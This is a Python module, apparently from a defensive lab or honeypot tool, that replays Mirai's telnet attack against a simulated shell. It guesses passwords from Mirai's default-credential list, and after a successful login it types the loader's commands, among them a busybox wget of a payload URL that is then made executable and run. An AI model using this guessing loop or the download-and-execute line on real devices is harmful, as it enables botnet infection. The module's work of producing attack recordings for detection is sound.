"""What is said at a telnet prompt by those who guess: Mirai's list of passwords, and what its loader types.

The lines are those of Mirai's published source (2016, loader/src/server.c). At the other end is `shell`, which answers
them and runs none.
"""

import random
from typing import Final

from botwarden.lab import links, plan
from botwarden.lab.acting import Actor
from botwarden.lab.telnet import Session

TELNET: Final = 23
TYPED: Final = (
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "/bin/busybox ps; /bin/busybox ECCHI",
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    ">/var/.nippon && cd /var/; /bin/busybox ECCHI",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
    f"/bin/busybox wget {plan.PAYLOAD_URL} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "./dvrHelper telnet.arm7; /bin/busybox ECCHI",
    "rm -rf dvrHelper; /bin/busybox ECCHI",
)
FIRST: Final = 8
"""So many wrong passwords come before a right one, so that every recording shows a guesser at work."""


def guesses(dice: random.Random, right: tuple[str, str] | None) -> list[tuple[str, str]]:
    """Mirai's list in random order; a password that is right comes late, or not at all where it is not in the list."""
    order = list(plan.MIRAI_GUESSES)
    dice.shuffle(order)
    if right in order[:FIRST]:
        order.remove(right)
        order.insert(dice.randint(FIRST, len(order)), right)
    return order


def break_in(
    actor: Actor, host: str, port: int, order: list[tuple[str, str]], pause: float
) -> tuple[int, tuple[str, str] | None]:
    """Try one login after another, a connection each, until one is right: (tries, the right one).

    Raises Refused; ConnectionError where nobody ever answers.
    """
    answered = False
    for tries, login in enumerate(order, 1):
        outcome = attempt(actor, host, port, login)
        if outcome:
            return tries, login
        answered = answered or outcome is not None
        actor.pause(pause, 0.4)
    if not answered:
        raise ConnectionError(f"nobody answers at {host}, port {port}")
    return len(order), None


def attempt(actor: Actor, host: str, port: int, login: tuple[str, str]) -> bool | None:
    """Whether one login works; None where nobody answers. Raises Refused."""
    links.ready(actor.permit, host)
    try:
        with Session(host, port, actor.permit.source) as session:
            return session.login(*login)
    except OSError:
        return None


def type_lines(actor: Actor, host: str, port: int, login: tuple[str, str], think: float = 0.3) -> int:
    """Log in and type what Mirai's loader types; how many lines were answered. Raises Refused, OSError."""
    links.ready(actor.permit, host)
    with Session(host, port, actor.permit.source, timeout=20.0) as session:
        if not session.login(*login):
            raise ConnectionError(f"{host} no longer lets {login[0]} in")
        return session.run(TYPED, lambda: actor.pause(think, 0.3))
